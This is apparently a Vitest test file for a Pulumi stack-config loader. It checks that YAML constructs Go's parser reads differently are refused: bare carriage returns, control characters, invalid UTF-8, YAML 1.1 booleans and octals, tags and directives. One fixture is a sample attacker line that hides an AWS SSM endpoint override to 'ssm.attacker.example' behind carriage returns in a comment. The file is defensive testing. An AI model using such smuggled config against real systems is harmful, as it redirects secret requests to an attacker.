import { writeFileSync } from "node:fs";
import { afterEach, describe, expect, it } from "vitest";
import { LineCounter, parseDocument } from "yaml";
import { ConfigError, type ConfigProblem, loadStackConfig } from "../src/index.js";
import { ambiguityOf, ambiguousScalars } from "../src/portable-yaml.js";
import { PROGRAMS, type TempWorkspace, teamYaml, tempWorkspace } from "./support/workspace.js";

let ws: TempWorkspace | undefined;
afterEach(() => ws?.remove());

const TEAM_FILE = "stacks/scheduling/teams/vision/Pulumi.vision.yaml";

function load(text: string): { problems: ConfigProblem[] } | { ok: true } {
  ws?.remove();
  ws = tempWorkspace(PROGRAMS);
  const abs = ws.write(TEAM_FILE, text);
  try {
    loadStackConfig(abs, { displayName: TEAM_FILE });
    return { ok: true };
  } catch (e) {
    if (!(e instanceof ConfigError)) throw e;
    expect(e.file).toBe(TEAM_FILE);
    return { problems: e.problems };
  }
}

const problemsOf = (text: string): ConfigProblem[] => {
  const r = load(text);
  if ("ok" in r) throw new Error("expected the file to be refused");
  return r.problems;
};

// What the attacker appends: one comment line whose carriage returns Go's YAML reads as line breaks.
const HIDDEN = [
  "  # end of file",
  "  aws:profile: team-vision",
  "  aws:endpoints:",
  "    - ssm: https://ssm.attacker.example",
].join("\r");

describe("stack files Pulumi would read otherwise are refused (parser differential)", () => {
  it("keys hidden behind carriage returns in a comment: the file is refused at the character", () => {
    const text = `${teamYaml("vision", "dev")}${HIDDEN}\n`;
    const problems = problemsOf(text);
    expect(problems).toHaveLength(3);
    const lineOfComment = text.split("\n").findIndex((l) => l.includes("# end of file")) + 1;
    expect(problems[0]).toMatchObject({ key: "", line: lineOfComment, column: "  # end of file".length + 1 });
    expect(problems[0]?.message).toMatch(
      /holds a carriage return not followed by a line feed \(U\+000D\).*Pulumi's YAML reads it as a line break.*Allowed: printable text, tabs and line ends \(LF or CRLF\)/,
    );
  });

  it.each([
    ["NEL", "\u0085"],
    ["line separator", "\u2028"],
    ["paragraph separator", "\u2029"],
    ["NUL", "\u0000"],
    ["escape", "\u001b"],
    ["DEL", "\u007f"],
    ["C1 control", "\u009b"],
    ["byte order mark after the start", "\ufeff"],
    ["noncharacter U+FFFE", "\ufffe"],
    ["noncharacter U+FFFF", "\uffff"],
  ])("a %s in a comment is refused", (_name, ch) => {
    const problems = problemsOf(`${teamYaml("vision", "dev")}  # note${ch}  aws:profile: x\n`);
    expect(problems.map((p) => p.message).join("\n")).toMatch(
      new RegExp(`\\(U\\+${(ch.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}\\)`),
    );
  });

  it.each([
    ["CRLF line ends", (t: string) => t.replaceAll("\n", "\r\n")],
    ["tabs in a comment", (t: string) => `${t}  #\tnote\n`],
    ["a byte order mark at the start", (t: string) => `\ufeff${t}`],
    ["non-ASCII text in a comment", (t: string) => `${t}  # Zürich — 東京\n`],
  ])("%s are accepted", (_name, edit) => {
    expect(load(edit(teamYaml("vision", "dev")))).toEqual({ ok: true });
  });

  it("a file that is not valid UTF-8 is refused, naming the byte (not read with replacement characters)", () => {
    ws?.remove();
    ws = tempWorkspace(PROGRAMS);
    const text = teamYaml("vision", "dev");
    const at = text.indexOf("python");
    const abs = ws.write(TEAM_FILE, "");
    writeFileSync(
      abs,
      Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0xc3, 0x28]), Buffer.from(text.slice(at))]),
    );
    try {
      loadStackConfig(abs, { displayName: TEAM_FILE });
      throw new Error("expected a ConfigError");
    } catch (e) {
      expect(e).toBeInstanceOf(ConfigError);
      expect((e as ConfigError).problems[0]?.message).toBe(
        // 0xC3 starts a two-byte sequence; 0x28, one byte on, cannot continue it.
        `is not valid UTF-8 (at byte ${at + 1}): Pulumi's YAML refuses such a file. Fix: save it as UTF-8`,
      );
    }
  });

  it("a bare CR that breaks this parse is reported as the CR, not as a YAML syntax error", () => {
    const problems = problemsOf(`${teamYaml("vision", "dev")}  bad: [1,\r  2\n`);
    expect(problems[0]?.message).toMatch(/carriage return not followed by a line feed/);
    expect(problems.every((p) => !/YAML syntax error/.test(p.message))).toBe(true);
  });

  it("an octal-looking duration is refused at its key, naming both readings and the fix", () => {
    const text = teamYaml("vision", "dev").replace("durationHours: 3", "durationHours: 010");
    const problems = problemsOf(text);
    const p = problems.find((q) => q.key === "scheduling:windows[0].durationHours");
    expect(p?.message).toMatch(
      /"010" reads as the number 10 here but as the number 8 \(octal\) to Pulumi's YAML.*Fix: quote it \('010'\) if you mean the text, or write 8 for the number Pulumi reads/,
    );
    expect(p).toMatchObject({
      line: text.split("\n").findIndex((l) => l.includes("durationHours")) + 1,
      column: "      durationHours: ".length + 1,
    });
  });

  it("a YAML 1.1 boolean word is refused as a value and as a key", () => {
    const text = teamYaml("vision", "dev").replace("timezone: Europe/Berlin", "timezone: no\n      on: true");
    const messages = (key: string) =>
      problemsOf(text)
        .filter((p) => p.key === key)
        .map((p) => p.message)
        .join("\n");
    expect(messages("scheduling:windows[0].timezone")).toMatch(
      /"no" reads as the text "no" here but as the boolean false to Pulumi's YAML/,
    );
    expect(messages("scheduling:windows[0].on")).toMatch(
      /"on" reads as the text "on" here but as the boolean true/,
    );
  });

  it.each([
    ["!!int 010", "!!int"],
    ["!!binary MwE=", "!!binary"],
    ["!!str 3", "!!str"],
    ["!local 3", "!local"],
  ])("an explicit tag (%s) is refused at its key", (value, tag) => {
    const problems = problemsOf(
      teamYaml("vision", "dev").replace("durationHours: 3", `durationHours: ${value}`),
    );
    expect(
      problems.filter((p) => p.key === "scheduling:windows[0].durationHours").map((p) => p.message),
    ).toContainEqual(
      expect.stringMatching(new RegExp(`has the explicit tag ${tag}: YAML readers resolve tags differently`)),
    );
  });

  it("a tagged collection is refused too", () => {
    const problems = problemsOf(
      teamYaml("vision", "dev").replace("scheduling:windows:", "scheduling:windows: !!seq"),
    );
    expect(problems.map((p) => `${p.key}: ${p.message}`)).toContainEqual(
      expect.stringMatching(/^scheduling:windows: has the explicit tag !!seq/),
    );
  });

  it.each([
    ["%YAML 1.1", /starts with a %YAML 1\.1 directive: the two YAML readers treat directives differently/],
    ["%TAG !t! tag:example.com,2026:", /starts with a %TAG directive/],
  ])("a %s directive is refused at line 1", (directive, message) => {
    const problems = problemsOf(`${directive}\n---\n${teamYaml("vision", "dev")}`);
    const p = problems.find((q) => message.test(q.message));
    expect(p).toMatchObject({ key: "", line: 1, column: 1 });
  });

  it("the same values quoted are judged as ordinary values", () => {
    const r = load(teamYaml("vision", "dev").replace("durationHours: 3", 'durationHours: "3"'));
    // A quoted number is text: the schema's finding, not a portability one.
    if ("ok" in r) throw new Error("expected the schema to refuse text");
    expect(r.problems.every((p) => !/Pulumi's YAML/.test(p.message))).toBe(true);
  });
});

describe("ambiguityOf: the plain scalars YAML 1.1 and YAML 1.2 read differently", () => {
  it.each([
    // booleans beyond true/false
    "y",
    "Y",
    "yes",
    "Yes",
    "YES",
    "n",
    "No",
    "on",
    "ON",
    "off",
    "Off",
    // legacy octal
    "010",
    "-0755",
    "0_10",
    // binary, upper-case prefixes, digit separators
    "0b101",
    "0B11",
    "0X1F",
    "0O17",
    "1_000",
    "0x1_F",
    "-1_0",
    // floats with separators, signed specials
    "1_0.5",
    // a sign before a 0x or 0o prefix: text in YAML 1.2's core schema, a number to ParseInt
    "+0x10",
    "-0x10",
    "-0o17",
  ])("%s is ambiguous", (text) => {
    expect(ambiguityOf(text)).toBeDefined();
  });

  it.each([
    "true",
    "false",
    "True",
    "FALSE",
    "0",
    "10",
    "-10",
    "+10",
    "08",
    "0x1f",
    "0x0B",
    "0xE0B",
    "0x10b",
    "0o17",
    // a signed inf or nan fails yaml.v2's float pattern: text to both
    "+inf",
    "-Infinity",
    "+NaN",
    "1.5",
    ".5",
    "1e3",
    ".inf",
    "-.inf",
    ".nan",
    "null",
    "~",
    "yess",
    "onboard",
    "no-op",
    "2026-01-12T00:00:00Z",
    "cron(0 4 ? * SUN *)",
    "python /opt/retrain/train.py",
  ])("%s reads the same", (text) => {
    expect(ambiguityOf(text)).toBeUndefined();
  });

  it("an octal spelling with the same value either way is not reported (07 is 7)", () => {
    const lines = new LineCounter();
    const doc = parseDocument("a: 07\nb: 00\nc: 010\n", { lineCounter: lines });
    expect(ambiguousScalars(doc.contents, lines).map((p) => p.path)).toEqual([["c"]]);
  });

  it("quoted and block scalars are never reported; an alias is reported once, at its anchor", () => {
    const lines = new LineCounter();
    const doc = parseDocument("a: 'on'\nb: \"010\"\nc: |\n  yes\nd: &x off\ne: *x\n", { lineCounter: lines });
    expect(ambiguousScalars(doc.contents, lines)).toMatchObject([{ path: ["d"], line: 5, column: 7 }]);
  });
});
